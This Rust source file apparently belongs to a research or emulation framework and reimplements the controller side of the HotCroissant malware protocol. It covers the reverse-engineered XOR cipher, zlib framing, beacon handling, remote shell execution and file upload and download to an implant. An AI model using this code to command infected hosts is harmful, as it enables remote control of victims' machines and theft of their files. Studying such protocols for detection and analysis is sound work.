use crate::hexdump::hexdump;
use crate::protocol::{ByteQueue, Delegate, DelegateCell};
use flate2::read::ZlibDecoder;
use flate2::write::ZlibEncoder;
use flate2::Compression;
use log::{debug, info, warn};
use rand::Rng;
use sha2::{Digest, Sha256};
use std::collections::HashMap;
use std::fs::File;
use std::io::{self, Read, Write};
use std::sync::mpsc;
use std::sync::{Arc, Mutex, Once};
use std::thread;
use std::time::Duration;

const BEACON: u32 = 0x7c8;
const FILE_DATA: u32 = 0x7e4;
const FILE_COMPLETE: u32 = 0x7e5;
const FILE_DOWNLOAD: u32 = 0x7e6;
const FILE_STATUS: u32 = 0x7e7;
const FILE_UPLOAD: u32 = 0x7ed;
const SHELL_START: u32 = 0xfa1;
const SHELL_DATA: u32 = 0xfa2;
const SHELL_STOP: u32 = 0xfa3;

const UPLOAD_CHUNK_SIZE: usize = 0x3a70;

/// HotCroissant protocol handler. Frames are
/// `[compressed_size:u32le][uncompressed_size:u32le][cipher(zlib(payload))]`
/// with a 20-byte inner header; file transfers correlate on a random job
/// ID rendered as lowercase hex.
pub struct Handler {
    inner: Arc<Inner>,
    decoder: Once,
}

struct Inner {
    delegate: DelegateCell,
    queue: ByteQueue,
    upload_jobs: Mutex<HashMap<String, mpsc::Sender<i32>>>,
    download_jobs: Mutex<HashMap<String, File>>,
}

#[derive(Debug, Default, Clone, PartialEq)]
struct Command {
    opcode: u32,
    opt1: i32,
    opt2: i32,
    opt3: i32,
    size: u32,
    data: Vec<u8>,
}

impl Handler {
    pub fn new() -> Self {
        Handler {
            inner: Arc::new(Inner {
                delegate: DelegateCell::new(),
                queue: ByteQueue::new(),
                upload_jobs: Mutex::new(HashMap::new()),
                download_jobs: Mutex::new(HashMap::new()),
            }),
            decoder: Once::new(),
        }
    }
}

impl Default for Handler {
    fn default() -> Self {
        Handler::new()
    }
}

impl crate::protocol::Handler for Handler {
    fn needs_tls(&self) -> bool {
        false
    }

    fn set_delegate(&self, delegate: Arc<dyn Delegate>) {
        self.inner.delegate.set(delegate);
    }

    fn accept(&self) {}

    fn receive_data(&self, data: &[u8]) {
        debug!("received\n{}", hexdump(data));

        let inner = Arc::clone(&self.inner);
        self.decoder.call_once(move || {
            thread::spawn(move || inner.process_data());
        });

        self.inner.queue.put(data);
    }

    fn execute(&self, name: &str, args: &[String]) {
        let command_line = format!("{} {}", name, args.join(" ")).trim().to_string();

        // Start shell
        let c = Command {
            opcode: SHELL_START,
            ..Default::default()
        };
        if let Err(e) = self.inner.send_command(&c) {
            warn!("Error sending command: {e}");
        }

        // Execute command
        let mut data = command_line.clone().into_bytes();
        data.push(0x00);
        let c = Command {
            opcode: SHELL_DATA,
            size: command_line.len() as u32,
            data,
            ..Default::default()
        };
        if let Err(e) = self.inner.send_command(&c) {
            warn!("Error sending command: {e}");
        }

        // Wait for response
        thread::sleep(Duration::from_secs(2));

        // Shut down shell
        let c = Command {
            opcode: SHELL_STOP,
            ..Default::default()
        };
        if let Err(e) = self.inner.send_command(&c) {
            warn!("Error sending command: {e}");
        }
    }

    fn upload(&self, source: &str, destination: &str) {
        let job_id: u32 = rand::thread_rng().gen();
        let job_name = format!("{job_id:x}");
        let payload = format!("{job_name}|{destination}");

        let (response_tx, response_rx) = mpsc::channel();
        self.inner
            .upload_jobs
            .lock()
            .unwrap()
            .insert(job_name.clone(), response_tx);

        info!("Starting upload job {job_name}");

        let mut data = payload.clone().into_bytes();
        data.push(0x00);
        let c = Command {
            opcode: FILE_UPLOAD,
            opt1: job_id as i32,
            size: payload.len() as u32,
            data,
            ..Default::default()
        };
        if let Err(e) = self.inner.send_command(&c) {
            warn!("Error sending command: {e}");
        }

        // The agent acknowledges the destination file with a signed
        // status word that must ride along with every data packet.
        let opt2 = match response_rx.recv() {
            Ok(v) => v,
            Err(_) => return,
        };

        let mut file = match File::open(source) {
            Ok(f) => f,
            Err(e) => {
                warn!("Error opening source file: {e}");
                return;
            }
        };

        let mut buf = vec![0u8; UPLOAD_CHUNK_SIZE];
        loop {
            let bytes_read = match file.read(&mut buf) {
                Ok(0) => break,
                Ok(n) => n,
                Err(e) => {
                    warn!("Error reading source file: {e}");
                    break;
                }
            };

            let c = Command {
                opcode: FILE_DATA,
                opt1: job_id as i32,
                opt2,
                opt3: bytes_read as i32,
                size: bytes_read as u32,
                data: buf[..bytes_read].to_vec(),
            };
            if let Err(e) = self.inner.send_command(&c) {
                warn!("Error sending command: {e}");
            }
        }

        // Finish the file transfer
        let c = Command {
            opcode: FILE_COMPLETE,
            opt1: job_id as i32,
            opt2,
            ..Default::default()
        };
        if let Err(e) = self.inner.send_command(&c) {
            warn!("Error sending command: {e}");
        }

        info!("Upload job {job_name} complete");
    }

    fn download(&self, source: &str, destination: &str) {
        let file = match File::create(destination) {
            Ok(f) => f,
            Err(e) => {
                warn!("Error opening destination file: {e}");
                return;
            }
        };

        let job_id: u32 = rand::thread_rng().gen();
        let job_name = format!("{job_id:x}");
        let payload = format!("{job_name}|{source}");

        self.inner
            .download_jobs
            .lock()
            .unwrap()
            .insert(job_name.clone(), file);

        info!("Starting download job {job_name}");

        let mut data = payload.clone().into_bytes();
        data.push(0x00);
        let c = Command {
            opcode: FILE_DOWNLOAD,
            opt1: job_id as i32,
            size: payload.len() as u32,
            data,
            ..Default::default()
        };
        if let Err(e) = self.inner.send_command(&c) {
            warn!("Error sending command: {e}");
        }
    }

    fn close(&self) {
        self.inner.queue.close();

        // Release any in-flight transfer state: dropping the files
        // closes them, dropping the senders unblocks a parked upload.
        self.inner.upload_jobs.lock().unwrap().clear();
        self.inner.download_jobs.lock().unwrap().clear();
    }
}

impl Inner {
    fn process_data(&self) {
        loop {
            let b = match self.queue.get(4) {
                Ok(b) => b,
                Err(_) => {
                    self.delegate.get().close_connection();
                    return;
                }
            };
            let compressed_size = u32::from_le_bytes([b[0], b[1], b[2], b[3]]);

            let b = match self.queue.get(4) {
                Ok(b) => b,
                Err(_) => {
                    self.delegate.get().close_connection();
                    return;
                }
            };
            let _uncompressed_size = u32::from_le_bytes([b[0], b[1], b[2], b[3]]);

            let data = match self.queue.get(compressed_size as usize) {
                Ok(b) => b,
                Err(_) => {
                    self.delegate.get().close_connection();
                    return;
                }
            };

            // The payload is zlib behind the cipher, and zlib data at
            // default compression starts 78 9c. The cipher transforms
            // each leading byte the same way every time, so the first
            // two ciphertext bytes must be cd 31.
            if data.len() < 2 || data[0] != 0xcd || data[1] != 0x31 {
                self.delegate.get().close_connection();
                return;
            }

            let command = match decode_command(&data) {
                Ok(c) => c,
                Err(_) => {
                    self.delegate.get().close_connection();
                    return;
                }
            };

            self.process_command(command);
        }
    }

    fn process_command(&self, command: Command) {
        log_command(&command);

        match command.opcode {
            BEACON => {
                let id = hex::encode(Sha256::digest(&command.data));
                self.delegate.get().agent_connected(&id);
            }
            FILE_UPLOAD => {
                if command.opt2 == -1 {
                    warn!("Error opening destination file");
                }

                let job_name = String::from_utf8_lossy(&command.data).to_string();
                if let Some(response) = self.upload_jobs.lock().unwrap().get(&job_name) {
                    let _ = response.send(command.opt2);
                }
            }
            FILE_STATUS => {
                if command.data.starts_with(b"Failed to open") {
                    warn!("Error opening source file");
                    let job_name = format!("{:x}", command.opt1 as u32);
                    self.download_jobs.lock().unwrap().remove(&job_name);
                }
            }
            FILE_DATA => {
                let job_name = format!("{:x}", command.opt1 as u32);
                if let Some(file) = self.download_jobs.lock().unwrap().get_mut(&job_name) {
                    if let Err(e) = file.write_all(&command.data) {
                        warn!("Error writing destination file: {e}");
                    }
                }
            }
            FILE_COMPLETE => {
                let job_name = format!("{:x}", command.opt1 as u32);
                self.download_jobs.lock().unwrap().remove(&job_name);

                info!("Download job {job_name} complete");
            }
            SHELL_DATA => {
                info!("{}", String::from_utf8_lossy(&command.data));
            }
            _ => {}
        }
    }

    fn send_command(&self, command: &Command) -> io::Result<()> {
        let (compressed_size, uncompressed_size, encrypted) = encode_command(command)?;

        let mut result = Vec::with_capacity(8 + encrypted.len());
        result.extend_from_slice(&compressed_size.to_le_bytes());
        result.extend_from_slice(&uncompressed_size.to_le_bytes());
        result.extend_from_slice(&encrypted);

        self.delegate.get().send_data(&result);

        Ok(())
    }
}

fn log_command(c: &Command) {
    debug!("HotCroissant Command");
    debug!("Opcode: 0x{:08x}", c.opcode);
    debug!("  Opt1: 0x{:08x}", c.opt1 as u32);
    debug!("  Opt2: 0x{:08x}", c.opt2 as u32);
    debug!("  Opt3: 0x{:08x}", c.opt3 as u32);
    debug!("  Size: 0x{:08x}", c.size);
    debug!("  Data:\n{}", hexdump(&c.data));
}

fn decode_command(data: &[u8]) -> io::Result<Command> {
    let decrypted = cipher(data);
    let decompressed = decompress(&decrypted)?;

    if decompressed.len() < 20 {
        return Err(io::Error::new(
            io::ErrorKind::UnexpectedEof,
            "inner header truncated",
        ));
    }

    let word = |i: usize| {
        u32::from_le_bytes([
            decompressed[i],
            decompressed[i + 1],
            decompressed[i + 2],
            decompressed[i + 3],
        ])
    };

    Ok(Command {
        opcode: word(0),
        opt1: word(4) as i32,
        opt2: word(8) as i32,
        opt3: word(12) as i32,
        size: word(16),
        data: decompressed[20..].to_vec(),
    })
}

fn encode_command(c: &Command) -> io::Result<(u32, u32, Vec<u8>)> {
    let mut data = Vec::with_capacity(20 + c.data.len());
    data.extend_from_slice(&c.opcode.to_le_bytes());
    data.extend_from_slice(&(c.opt1 as u32).to_le_bytes());
    data.extend_from_slice(&(c.opt2 as u32).to_le_bytes());
    data.extend_from_slice(&(c.opt3 as u32).to_le_bytes());
    data.extend_from_slice(&c.size.to_le_bytes());
    data.extend_from_slice(&c.data);

    debug!("encoded\n{}", hexdump(&data));

    let uncompressed_size = data.len() as u32;
    let compressed = compress(&data)?;
    let encrypted = cipher(&compressed);

    Ok((encrypted.len() as u32, uncompressed_size, encrypted))
}

/// Three-register rolling XOR reverse-engineered from the implant.
/// The register evolution is data-independent, so applying the cipher
/// twice restores the input as long as both sides replay the identical
/// recurrence.
fn cipher(input: &[u8]) -> Vec<u8> {
    let mut output = Vec::with_capacity(input.len());

    let mut key1: u32 = 0x17;
    let mut key2: u32 = 0x00b8_d68b;
    let mut key3: u32 = 0x0249_7029;

    for &b in input {
        let temp2 = key2;
        let temp3 = key3;
        output.push((b as u32 ^ temp2 ^ temp3 ^ key1) as u8);
        key2 = key2 >> 8 | ((key2.wrapping_mul(8) ^ key2) & 0x7f8) << 0x14;
        key1 = key1 & temp3 ^ (temp3 ^ key1) & temp2;
        key3 = key3 >> 8
            | ((((key3.wrapping_mul(2) ^ key3) << 4) ^ key3) & 0xffff_ff80 ^ key3 << 7) << 0x11;
    }

    output
}

fn compress(input: &[u8]) -> io::Result<Vec<u8>> {
    let mut encoder = ZlibEncoder::new(Vec::new(), Compression::default());
    encoder.write_all(input)?;
    encoder.finish()
}

fn decompress(input: &[u8]) -> io::Result<Vec<u8>> {
    let mut decoder = ZlibDecoder::new(input);
    let mut out = Vec::new();
    decoder.read_to_end(&mut out)?;
    Ok(out)
}

/// Wire-format beacon frame for cross-module tests.
#[cfg(test)]
pub fn test_beacon_frame(payload: &[u8]) -> Vec<u8> {
    let c = Command {
        opcode: BEACON,
        size: payload.len() as u32,
        data: payload.to_vec(),
        ..Default::default()
    };
    let (compressed_size, uncompressed_size, encrypted) = encode_command(&c).unwrap();
    let mut frame = Vec::new();
    frame.extend_from_slice(&compressed_size.to_le_bytes());
    frame.extend_from_slice(&uncompressed_size.to_le_bytes());
    frame.extend_from_slice(&encrypted);
    frame
}
